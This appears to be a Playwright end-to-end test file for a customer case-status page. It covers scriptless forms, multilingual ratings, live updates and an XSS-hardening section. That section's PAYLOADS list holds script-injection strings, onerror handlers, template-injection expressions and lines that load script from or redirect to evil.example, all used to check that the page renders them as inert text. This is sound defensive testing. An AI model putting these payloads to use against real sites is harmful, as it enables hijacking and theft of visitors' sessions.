// What a customer does on the page in a real browser: without any script, with hostile words around, and while the case
// moves on under their eyes.
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, BrowserContextOptions } from 'playwright-core';
import { LOCALES } from '../../src/domain/policies.js';
import { ESCALATION, expectStatus } from '../http/case-client.js';
import { StatusCases } from '../http/status-cases.js';
import { startTestApp, type TestApp } from '../support/app.js';
import { startBrowser } from './browser.js';
import { House } from './situations.js';
import { openWatched, type WatchedPage } from './watched-page.js';

let app: TestApp;
let browser: Browser;
let cases: StatusCases;
const open: WatchedPage[] = [];

beforeAll(async () => {
  [app, browser] = await Promise.all([startTestApp(), startBrowser()]);
  cases = new StatusCases(app);
});
afterAll(async () => {
  await browser?.close();
  await app?.close();
});
afterEach(async () => {
  for (const watched of open.splice(0)) await watched.close();
});

async function visit(path: string, options: BrowserContextOptions = {}): Promise<WatchedPage> {
  const watched = await openWatched(browser, app.url, options);
  open.push(watched);
  await watched.page.goto(`${app.url}${path}`);
  return watched;
}

describe('without any script', () => {
  const scriptless = (path: string) => visit(path, { javaScriptEnabled: false });

  it('a question is answered', async () => {
    const { id, page: path } = await new House(app).waiting();
    const { page, faults } = await scriptless(path);
    await page.getByLabel('Your answer').fill('1 Main Street\n你好');
    await page.getByRole('button', { name: 'Send answer' }).click();
    expect(await page.locator('.notice').textContent()).toBe('Thank you, we have your message.');
    expect(await page.locator('h1').textContent()).toBe('With Logistics');
    expect((await cases.eventsOf(id)).at(-1)).toBe('case.replied');
    expect(faults).toEqual([]);
  });

  it('a solution is turned down, then confirmed', async () => {
    const { id, page: path } = await cases.resolved();
    const { page } = await scriptless(path);
    await page.getByText('No, not solved yet').click();
    await page.getByLabel('What is still wrong?').fill('It did not arrive.');
    await page.getByRole('button', { name: 'Send, and keep working on it' }).click();
    expect((await cases.eventsOf(id)).at(-1)).toBe('case.rejected');
    await cases.command(id, 'agent', 'resolutions', { solution: 'It is there now.', rootCause: 'x' });
    await page.goto(`${app.url}${path}`);
    await page.getByRole('button', { name: 'Yes, my problem is solved' }).click();
    expect(await page.locator('h1').textContent()).toBe('This case is closed');
    expect((await cases.eventsOf(id)).at(-1)).toBe('case.confirmed');
  });

  it('a case is rated in the reader’s language, and going back leads to the rating, not to the form', async () => {
    const { id, page: path } = await cases.closed();
    const { page } = await scriptless(`${path}/rating?score=4&lang=zh-TW`);
    expect(await page.locator('input[name=score]:checked').getAttribute('value')).toBe('4');
    await page.getByLabel('5 非常滿意').check();
    await page.getByText('還有一個問題（選填）').click();
    await page.getByLabel('10', { exact: true }).check();
    await page.getByRole('button', { name: '送出評分' }).click();
    expect(await page.locator('.given').textContent()).toBe('5 分（滿分 5 分）：非常滿意');
    await page.goBack();
    expect(page.url()).toContain('/rating?score=4');
    expect(await page.locator('.given').textContent()).toContain('非常滿意');
    expect(await page.locator('#rate').count()).toBe(0);
    expect((await cases.eventsOf(id)).filter((type) => type === 'case.rated')).toHaveLength(1);
  });

  it('a rating without an answer is not even sent', async () => {
    const { id, page: path } = await cases.closed();
    const { page } = await scriptless(path);
    await page.getByRole('button', { name: 'Send rating' }).click();
    expect(page.url()).toBe(`${app.url}${path}`);
    expect(await cases.eventsOf(id)).not.toContain('case.rated');
  });

  it('a case is withdrawn in two steps', async () => {
    const { id, page: path } = await cases.opened();
    const { page } = await scriptless(path);
    await page.getByText('Withdraw the case').first().click();
    await page.getByRole('button', { name: 'Yes, withdraw the case' }).click();
    expect(await page.locator('h1').textContent()).toBe('This case has been withdrawn');
    expect((await cases.eventsOf(id)).at(-1)).toBe('case.withdrawn');
  });
});

const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><script src=//evil.example/x.js></script>',
  '<img src=x onerror=alert(1)>',
  "' autofocus onfocus='alert(1)",
  '</textarea><svg/onload=alert(1)>',
  '</title><style>@import "//evil.example/x.css";</style>',
  '<iframe srcdoc="<script>parent.alert(1)</script>">',
  '<a href="javascript:alert(1)">click</a>',
  '<base href="//evil.example/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<form action=//evil.example/><button>x',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '{{constructor.constructor("alert(1)")()}} ${alert(1)} <%= alert(1) %>',
  '\u202e<b>gpj.exe</b>\u2066',
];

describe('hostile words', () => {
  const words = PAYLOADS.join(' ');

  async function nameDepartment(key: string, name: string): Promise<void> {
    const admin = app.api('admin');
    const found = expectStatus(await admin.get(`/departments/${key}`), 200).body;
    const publicName = Object.fromEntries(LOCALES.map((locale) => [locale, name]));
    const { answersFor, calendar, ola } = found;
    expectStatus(await admin.put(`/departments/${key}`, { answersFor, calendar, ola, publicName }), 200);
  }

  it('are shown as words wherever they stand: nothing runs, nothing is asked of anybody, no policy is breached', async () => {
    const subject = PAYLOADS.slice(0, 5).join(' ');
    const { id, page: path } = await cases.opened({ name: '<img src=x onerror=alert(1)>' }, subject);
    await nameDepartment('sales', '<img src=x onerror=alert(1)>');
    await cases.command(id, 'agent', 'ownership', {});
    await cases.command(id, 'agent', 'escalations', { ...ESCALATION, department: 'sales' });
    await cases.command(id, 'member:sales', 'acceptances', {});
    await cases.command(id, 'agent', 'messages', { text: words });
    await cases.command(id, 'member:sales', 'questions', { question: words });
    const { page, faults } = await visit(path);
    expect(await page.locator('.who dd').textContent()).toBe('<img src=x onerror=alert(1)>');
    expect(await page.locator('.subject').textContent()).toContain('<script>alert(1)</script>');
    await page.getByLabel('Your answer').fill(words);
    await page.getByRole('button', { name: 'Send answer' }).click();
    await cases.command(id, 'member:sales', 'resolutions', { solution: words, rootCause: 'x' });
    await page.goto(`${app.url}${path}`);
    await page.getByRole('button', { name: 'Yes, my problem is solved' }).click();
    await page.getByLabel('1 Very dissatisfied').check();
    await page.locator('#rating-text').fill(words);
    await page.getByRole('button', { name: 'Send rating' }).click();
    expect(await page.locator('main blockquote').first().textContent()).toContain('<svg/onload=alert(1)>');
    const foreign = 'main script, main img, main iframe, main base, main a, main math, main style, main meta';
    expect(await page.locator(foreign).count()).toBe(0);
    expect(faults).toEqual([]);
  });

  it.each([
    `?lang=${encodeURIComponent(words)}`,
    `?done=${encodeURIComponent(words)}`,
    `/rating?score=${encodeURIComponent(words.slice(0, 300))}`,
  ])('in the address change nothing: %#', async (query) => {
    const { page: path } = await cases.closed();
    const { page, faults } = await visit(`${path}${query}`);
    expect(await page.locator('h1').textContent()).toBe('This case is closed');
    expect(faults).toEqual([]);
  });
});

describe('an open page', () => {
  it('shows by itself that the case has moved on, says so politely, and does not move the focus', async () => {
    const { id, page: path } = await cases.opened();
    const { page, faults } = await visit(path);
    await page.getByRole('link', { name: '简体中文' }).focus();
    await cases.command(id, 'agent', 'ownership', {});
    await page.getByRole('heading', { name: 'Lena is working on it' }).waitFor();
    expect(await page.title()).toContain('Lena is working on it');
    expect(await page.getByRole('status').first().textContent()).toBe(
      'There was news on your case. This page now shows it.',
    );
    expect(await page.evaluate('document.activeElement.textContent')).toBe('简体中文');
    await cases.command(id, 'agent', 'messages', { text: 'We have called the carrier.' });
    await page.getByText('We have called the carrier.').waitFor();
    expect(faults).toEqual([]);
  });

  it('throws nothing away that was begun: it offers the news instead', async () => {
    const { id, page: path } = await cases.opened({ locale: 'zh-CN' });
    const { page } = await visit(path);
    await page.getByText('给我们留言').click();
    await page.getByLabel('留言内容').fill('我还没写完');
    await cases.command(id, 'agent', 'messages', { text: '已联系承运商。' });
    const link = page.getByRole('link', { name: '查看最新进展' });
    await link.waitFor();
    expect(await page.getByLabel('留言内容').inputValue()).toBe('我还没写完');
    expect(await page.evaluate('document.activeElement.name')).toBe('text');
    await link.click();
    await page.getByText('已联系承运商。').waitFor();
  });

  it('of a case on which nothing more can happen listens to nothing', async () => {
    const { page: path, token } = await cases.opened();
    await app.api(null).post(`/status/${token}/withdrawal`, {});
    const { page } = await visit(path);
    expect(await page.locator('script').count()).toBe(0);
  });
});
